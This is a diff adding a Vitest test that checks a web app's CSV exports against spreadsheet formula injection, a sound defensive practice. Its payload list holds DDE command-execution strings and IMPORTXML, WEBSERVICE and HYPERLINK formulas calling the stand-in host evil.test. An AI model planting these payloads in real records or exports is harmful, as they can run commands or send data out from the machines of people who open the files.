@@ -1,0 +1,105 @@
+import { endpointNames, type EndpointName } from '@prelaunch/contract/endpoints';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { startTestServer, type TestServer } from '../testing/test-server.ts';
+import { fresh, makeRoom } from './call-parts.ts';
+import { expectDone, makeWorld, newSession, upload, type World } from './cast.ts';
+
+/** Texts that a spreadsheet would run, wherever people may write one, in every export. */
+
+const PAYLOADS: readonly string[] = [
+  '=1+1',
+  "=cmd|'/c calc'!A0",
+  '=HYPERLINK("http://evil.test","Click")',
+  '=IMPORTXML("http://evil.test","//a")',
+  '=WEBSERVICE("http://evil.test")',
+  '=DDE("cmd";"/c calc";"a")',
+  '+1+1',
+  '+cmd|calc',
+  '-1+1',
+  '-2+3+cmd|calc',
+  '@SUM(1+1)',
+  '@=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '=1+1,",\'"',
+  '"=1+1',
+  '==1+1',
+  '=\u200b1+1',
+  '|calc',
+];
+const RUNS = /^[=+\-@\t\r\0＝＋－＠]/;
+
+let server: TestServer;
+let world: World;
+
+beforeAll(async () => {
+  server = await startTestServer();
+  world = await makeWorld(server);
+});
+afterAll(() => server.stop());
+
+/** The cells of a CSV file, unpacked as a spreadsheet does it. */
+function cellsOf(csv: string): string[] {
+  const cells = csv
+    .replace(/^\uFEFF/, '')
+    .matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(?:,|\r\n|$)/g);
+  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '');
+}
+
+/** Writes the payload wherever one may; what does not take it refuses it. */
+async function plant(payload: string): Promise<void> {
+  const { here } = world;
+  const [member, admin] = [
+    await newSession(world, here, 'member'),
+    await newSession(world, here, 'admin'),
+  ];
+  const call = async (name: EndpointName, token: string, body: unknown) => {
+    const answer = await server.call(name, { token, body });
+    expect([200, 201, 400]).toContain(answer.status);
+    return answer;
+  };
+  await makeRoom(world, here);
+  const bought = await call('submitPurchase', member, {
+    paymentMethod: 'BANK',
+    amount: 1000,
+    referenceNumber: payload,
+    receiptId: await upload(server, member, 'proof'),
+    bankName: payload,
+  });
+  if (bought.status === 201) {
+    await call('rejectPurchase', admin, { id: bought.body.data.id, reason: payload });
+  }
+  const added = await call('addAccount', admin, {
+    role: 'USER',
+    name: payload,
+    password: 'a long enough password',
+    ...fresh(),
+  });
+  expectDone(added);
+  const payee = { holderName: payload, bankName: payload, branch: payload };
+  const numbers = { accountNumber: '12345678901', ifscCode: 'SBIN0000813', upi: 'a.b@okaxis' };
+  expectDone(await call('updateBeneficiary', admin, { ...payee, ...numbers }));
+  const company = { id: here.companyId, companyName: payload, companyAddress: payload };
+  const staff = await newSession(world, here, 'superadmin');
+  expectDone(await call('updateCompany', staff, company));
+}
+
+test('no cell of any export is one that a spreadsheet runs', async () => {
+  for (const payload of PAYLOADS) await plant(payload);
+  const exports = endpointNames.filter((name) => name.startsWith('export'));
+  expect(exports.length).toBeGreaterThanOrEqual(6);
+  for (const name of exports) {
+    const kind = name.includes('All') ? 'superadmin' : 'admin';
+    const token = await newSession(world, world.here, kind);
+    const { status, body, headers } = await server.call(name, { token });
+    expect(status).toBe(200);
+    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(headers.get('content-disposition')).toMatch(/^attachment;/);
+    const cells = cellsOf(String(body));
+    expect([name, cells.filter((cell) => RUNS.test(cell))]).toEqual([name, []]);
+    // It is there, so that it was tried.
+    expect(cells.some((cell) => /1\+1|calc/.test(cell))).toBe(true);
+  }
+});
